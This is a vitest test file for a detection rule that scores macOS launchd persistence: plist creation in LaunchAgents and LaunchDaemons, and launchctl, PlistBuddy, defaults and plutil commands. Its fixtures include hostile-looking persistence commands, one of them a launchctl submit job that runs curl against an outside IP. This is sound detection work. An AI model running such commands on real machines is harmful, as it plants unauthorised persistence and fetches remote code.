import { describe, expect, test } from 'vitest';
import { t1053MacLaunchAgentOrDaemon as alert } from '../../../src/t1053/extended/mac-launchd.ts';
import { auditedFile } from '../linux-events.ts';
import { macFile, macStarted, scores, told } from './host-run.ts';

const AGENT = '/Users/ann/Library/LaunchAgents/org.example.sync.plist';
const DAEMON = '/Library/LaunchDaemons/org.example.sync.plist';

describe('a plist', () => {
  test.each([
    ['an agent', macFile(AGENT), 30],
    ['an agent for all', macFile('/Library/LaunchAgents/x.plist'), 30],
    ['a daemon', macFile(DAEMON), 30],
    ['a move', macFile(DAEMON, { op: 'rename', oldPath: '/tmp/x' }), 30],
    ['a change', macFile(AGENT, { op: 'write' }), 30],
    ['one of root', macFile('/private/var/root/Library/LaunchAgents/x.plist'), 30],
    ['a hidden name', macFile('/Users/ann/Library/LaunchAgents/.x.plist'), 55],
    ['a name of Apple', macFile('/Library/LaunchDaemons/com.apple.sync.plist'), 50],
  ])('%s', (_, event, score) => {
    expect(scores(alert, event)).toEqual([score]);
  });

  test('an installer of the system ranks low', () => {
    const image = '/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/x';
    expect(scores(alert, macFile(DAEMON, { image }))).toEqual([0]);
    expect(scores(alert, macFile(DAEMON, { image: '/tmp/usr/sbin/installer' }))).toEqual([30]);
  });

  test('says which, and by whom', () => {
    expect(told(alert, [macFile(AGENT)])[0]).toMatchObject({
      summary: `the agent ${AGENT} was created on mac01 by 501`,
      details: { filePath: AGENT, fileOp: 'create', image: '/bin/zsh' },
    });
  });

  test.each([
    ['a job of the system', macFile('/System/Library/LaunchDaemons/com.apple.x.plist')],
    ['a plist of settings', macFile('/Users/ann/Library/Preferences/org.example.plist')],
    ['a copy', macFile('/Volumes/backup/Library/LaunchDaemons/x.plist')],
    ['one further down', macFile('/Library/LaunchDaemons/old/x.plist')],
    ['another file', macFile('/Library/LaunchDaemons/readme.txt')],
    ['a removal', macFile(AGENT, { op: 'delete', telemetry: 'macos-es/unlink' })],
    ['other rights', macFile(AGENT, { op: 'attr', telemetry: 'macos-es/setmode' })],
    ['another system', auditedFile(AGENT)],
  ])('%s is silent', (_, event) => {
    expect(scores(alert, event)).toEqual([]);
  });
});

describe('a command', () => {
  const buddy = '/usr/libexec/PlistBuddy';
  test.each([
    ['/bin/launchctl load -w /Users/ann/x.plist', 30],
    ['/bin/launchctl bootstrap gui/501 /private/tmp/x.plist', 60],
    ['/bin/launchctl submit -l x -- /bin/sh -c x', 40],
    ['/bin/launchctl submit -l x -- curl http://203.0.113.9/x', 60],
    [`${buddy} -c Add :StartInterval integer 60 ${AGENT}`, 50],
    [`/usr/bin/defaults write ${AGENT} RunAtLoad -bool true`, 50],
    [`/usr/bin/plutil -insert StartCalendarInterval -xml x ${DAEMON}`, 50],
  ])('%s', (line, score) => {
    expect(scores(alert, macStarted(line))).toEqual([score]);
  });

  test.each([
    '/bin/launchctl list',
    '/bin/launchctl kickstart system/com.apple.x',
    `/bin/launchctl load ${AGENT}`,
    '/bin/launchctl load /System/Library/LaunchDaemons/com.apple.x.plist',
    '/bin/launchctl bootstrap gui/501 /Applications/X.app/Contents/Library/x.plist',
    '/bin/launchctl unload /Users/ann/x.plist',
    `${buddy} -c Print:StartInterval ${AGENT}`,
    `/usr/bin/defaults read ${AGENT} RunAtLoad`,
    '/usr/bin/defaults write org.example.app RunAtLoad -bool true',
  ])('%s is silent', (line) => {
    expect(scores(alert, macStarted(line))).toEqual([]);
  });
});
